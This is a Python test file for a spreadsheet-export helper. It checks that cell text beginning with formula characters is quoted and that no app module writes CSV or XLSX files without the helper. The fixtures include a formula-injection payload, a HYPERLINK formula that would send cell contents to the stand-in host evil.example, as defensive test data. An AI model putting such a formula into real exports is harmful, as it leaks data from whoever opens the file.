"""The one helper every CSV and XLSX export writes through (app/spreadsheet_cells.py): text that
starts like a formula gets a quote in front, numbers stay numbers; and no module under app/ writes a
CSV or a workbook without it."""

from __future__ import annotations

import ast
import csv
import io
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from app.spreadsheet_cells import FORMULA_PREFIXES, csv_writer, neutralise, new_workbook, xlsx_value

ROOT = Path(__file__).resolve().parents[2]
PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
DANGEROUS = [PAYLOAD, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def test_the_prefixes_are_owasps() -> None:
    assert set(FORMULA_PREFIXES) == {"=", "+", "-", "@", "\t", "\r"}


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_starting_like_a_formula_gets_a_quote(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["张三", "a=b", "100", "1-2", "'=already quoted", "", " =1", "\n=1", "＝1"])
def test_other_text_is_left_as_it_is(text: str) -> None:
    assert neutralise(text) == text


@pytest.mark.parametrize(
    "value", [0, 45000, -150, 1.5, -0.25, Decimal("-1.50"), True, False, date(2019, 1, 1), None]
)
def test_numbers_booleans_dates_and_none_pass_unchanged(value: object) -> None:
    out = neutralise(value)
    assert out is value


def test_anything_else_is_written_as_its_text_and_neutralised() -> None:
    class Odd:
        def __str__(self) -> str:
            return "=1+1"

    assert neutralise(Odd()) == "'=1+1"


def test_csv_rows_come_back_neutralised_and_numbers_stay_numbers() -> None:
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow([*DANGEROUS, 7, -3, Decimal("-1.50"), 2.5, None, "ok"])
    writer.writerows([["-x", 1]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[0] == [*("'" + t for t in DANGEROUS), "7", "-3", "-1.50", "2.5", "", "ok"]
    assert rows[1] == ["'-x", "1"]


def test_workbook_cells_are_text_with_a_quote_and_numbers_numeric() -> None:
    wb = new_workbook()
    first = wb.active
    assert first is not None
    first.append([*DANGEROUS, 7, -3, 2.5, datetime(2019, 1, 2, 3, 4)])
    other = wb.create_sheet("二")
    other.append({"B": "=1+1", 3: -4})
    other.cell(row=2, column=1, value="@x")
    other["A3"] = "+y"
    first.append(["控制\x01字符", "=\x02"])  # openpyxl refuses these; the export must not fail
    buffer = io.BytesIO()
    wb.save(buffer)
    back = load_workbook(io.BytesIO(buffer.getvalue()))
    row = list(back.worksheets[0].iter_rows(min_row=1, max_row=1))[0]
    assert all(c.data_type == "s" for c in row[: len(DANGEROUS)])
    # the XML reader reads a stored CR back as a line feed; the quote is there all the same
    assert [c.value for c in row[: len(DANGEROUS)]] == ["'" + t.replace("\r", "\n") for t in DANGEROUS]
    numbers = row[len(DANGEROUS) :]
    assert [(c.value, c.data_type) for c in numbers[:3]] == [(7, "n"), (-3, "n"), (2.5, "n")]
    assert numbers[3].is_date
    sheet = back["二"]
    assert (sheet["B1"].value, sheet["B1"].data_type) == ("'=1+1", "s")
    assert (sheet["C1"].value, sheet["C1"].data_type) == (-4, "n")
    assert (sheet["A2"].value, sheet["A3"].value) == ("'@x", "'+y")
    controls = list(back.worksheets[0].iter_rows(min_row=2, max_row=2, values_only=True))[0]
    assert controls[:2] == ("控制\ufffd字符", "'=\ufffd")
    assert xlsx_value(3) == 3


BANNED_CALLS = {("csv", "writer"), ("csv", "DictWriter")}


def unsafe_writers(module: str, source: str) -> list[str]:
    """Every place in ``source`` that writes a CSV or a workbook without app/spreadsheet_cells.py."""
    found = []
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name):
            if (node.value.id, node.attr) in BANNED_CALLS or node.attr == "Workbook":
                found.append(f"{module}:{node.lineno} {node.value.id}.{node.attr}")
        elif isinstance(node, ast.ImportFrom) and node.module and node.level == 0:
            for alias in node.names:
                if (node.module == "csv" and alias.name in ("writer", "DictWriter")) or (
                    node.module.startswith("openpyxl") and alias.name == "Workbook"
                ):
                    found.append(f"{module}:{node.lineno} from {node.module} import {alias.name}")
    return found


def test_no_module_writes_a_csv_or_a_workbook_without_the_helper() -> None:
    found = [
        problem
        for path in (ROOT / "app").rglob("*.py")
        if path != ROOT / "app" / "spreadsheet_cells.py"
        for problem in unsafe_writers(str(path.relative_to(ROOT)), path.read_text(encoding="utf-8"))
    ]
    assert found == []


def test_the_guard_catches_a_raw_writer() -> None:
    assert unsafe_writers("m", "import csv\nw = csv.writer(out)\n") == ["m:2 csv.writer"]
    assert unsafe_writers("m", "from openpyxl import Workbook\n") == ["m:1 from openpyxl import Workbook"]
    assert unsafe_writers("m", "import openpyxl\nwb = openpyxl.Workbook()\n") == ["m:2 openpyxl.Workbook"]
    assert unsafe_writers("m", "import csv\nr = csv.reader(src)\n") == []
